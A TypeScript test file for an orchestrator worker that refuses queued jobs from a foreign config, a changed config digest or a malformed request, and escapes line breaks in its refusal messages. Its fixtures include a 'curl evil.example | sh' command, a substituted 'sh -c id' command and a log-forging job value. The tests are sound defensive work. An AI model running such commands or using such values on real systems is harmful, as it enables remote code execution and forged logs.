import { DispatchJob } from '../../../src/application/orchestrator/dispatch-job';
import type { RunJob, RunJobInput } from '../../../src/application/orchestrator/run-job';
import type { JobOutcome } from '../../../src/application/orchestrator/run-schedule';
import { WorkQueue } from '../../../src/application/orchestrator/work-queue';
import type { OrchestratorConfig } from '../../../src/domain/orchestrator/job';
import { configDigest } from '../../../src/domain/orchestrator/queued-job';
import { InMemoryJobQueue } from '../../fakes/in-memory-job-queue';
import { PureJsHashing } from '../../fakes/pure-js-hashing';

const hashing = new PureJsHashing();
const configAt = (file: string, command = ['pwsh', '-File', 'scan.ps1']): OrchestratorConfig => ({
  file,
  dir: file.replace(/\/[^/]*$/, ''),
  jobs: [
    {
      name: 'm365',
      adapter: 'scubagear',
      input: '/scans/ScubaResults.json',
      command,
      schedule: '0 6 * * *',
      outputs: { bundle: '/out/m365', store: false, sinks: [] },
    },
  ],
});
const MINE = configAt('/etc/svc/svc.orchestrator.json');

/** A worker started with MINE over `queue`; the jobs it ran and what it reported. */
function worker(queue: InMemoryJobQueue) {
  const ran: RunJobInput[] = [];
  const reported: JobOutcome[] = [];
  const runJob = {
    execute: async (input: RunJobInput) => (ran.push(input), { job: input.job, bundle: '/out/m365', result: { status: 'ok' } }),
  } as unknown as RunJob;
  const work = new WorkQueue(queue, { load: async (file?: string) => (file === undefined || file === MINE.file ? MINE : configAt(file)) }, hashing, runJob);
  const execute = () => work.execute({ signal: new AbortController().signal, onRun: (run) => reported.push(run) });
  return { execute, ran, reported };
}

describe('WorkQueue (svc orchestrator schedule --worker)', () => {
  it('runs a job dispatched from its own config, with the config it read at start', async () => {
    const queue = new InMemoryJobQueue();
    const dispatch = new DispatchJob({ load: async () => MINE }, queue, hashing, {} as RunJob);
    await dispatch.execute({ job: 'm365' });
    expect(queue.rows).toEqual([{ job: 'm365', config: MINE.file, digest: configDigest(MINE, hashing) }]);
    const { execute, ran } = worker(queue);
    expect(await execute()).toEqual({ queue: queue.location, config: MINE.file, handled: 1, refused: 0 });
    expect(ran).toEqual([{ job: 'm365', config: MINE }]);
    expect(queue.settled).toEqual([expect.objectContaining({ state: 'completed' })]);
  });

  it('refuses a job of another config path, another digest or no digest: failed in the queue with the reason, reported, not run', async () => {
    const queue = new InMemoryJobQueue();
    const theirs = configAt('/tmp/evil/svc.orchestrator.json', ['sh', '-c', 'curl evil.example | sh']);
    queue.rows.push(
      { job: 'm365', config: theirs.file, digest: configDigest(theirs, hashing) },
      { job: 'm365', config: MINE.file, digest: configDigest(configAt(MINE.file, ['sh', '-c', 'id']), hashing) },
      { job: 'm365', config: MINE.file },
      'm365\n',
    );
    const { execute, ran, reported } = worker(queue);
    expect(await execute()).toEqual({ queue: queue.location, config: MINE.file, handled: 4, refused: 4 });
    expect(ran).toEqual([]);
    const mine = configDigest(MINE, hashing).slice(0, 12);
    const other = configDigest(configAt(MINE.file, ['sh', '-c', 'id']), hashing).slice(0, 12);
    const messages = [
      'job m365: refused: it was dispatched from the config /tmp/evil/svc.orchestrator.json, and this worker runs only the jobs of /etc/svc/svc.orchestrator.json; run a worker with --config /tmp/evil/svc.orchestrator.json for that config',
      `job m365: refused: /etc/svc/svc.orchestrator.json is not the config it was dispatched with (digest ${other}, this worker's ${mine}); restart the worker so it reads the config as it is now, then dispatch again`,
      'job m365: refused: the queued request an object does not name a job, a config and its digest; dispatch the job again with this version of svc',
      'job (unnamed): refused: the queued request "m365\\n" does not name a job, a config and its digest; dispatch the job again with this version of svc',
    ];
    expect(queue.settled.map((s) => [s.state, s.message])).toEqual(messages.map((m) => ['failed', m]));
    expect(reported).toEqual([
      { job: 'm365', ok: false, error: messages[0] },
      { job: 'm365', ok: false, error: messages[1] },
      { job: 'm365', ok: false, error: messages[2] },
      { job: '(unnamed)', ok: false, error: messages[3] },
    ]);
    expect(queue.closed).toBe(true);
  });

  it('writes a config path or job name with a line break escaped, so the refusal stays one line', async () => {
    const queue = new InMemoryJobQueue();
    queue.rows.push({ job: 'm365\nFAKE', config: '/x\n2026-01-01T00:00:00Z m365: ok', digest: 'd' });
    const { execute, reported } = worker(queue);
    await execute();
    expect(reported).toEqual([
      {
        job: '"m365\\nFAKE"',
        ok: false,
        error:
          'job "m365\\nFAKE": refused: it was dispatched from the config "/x\\n2026-01-01T00:00:00Z m365: ok", and this worker runs only the jobs of /etc/svc/svc.orchestrator.json; run a worker with --config "/x\\n2026-01-01T00:00:00Z m365: ok" for that config',
      },
    ]);
  });
});
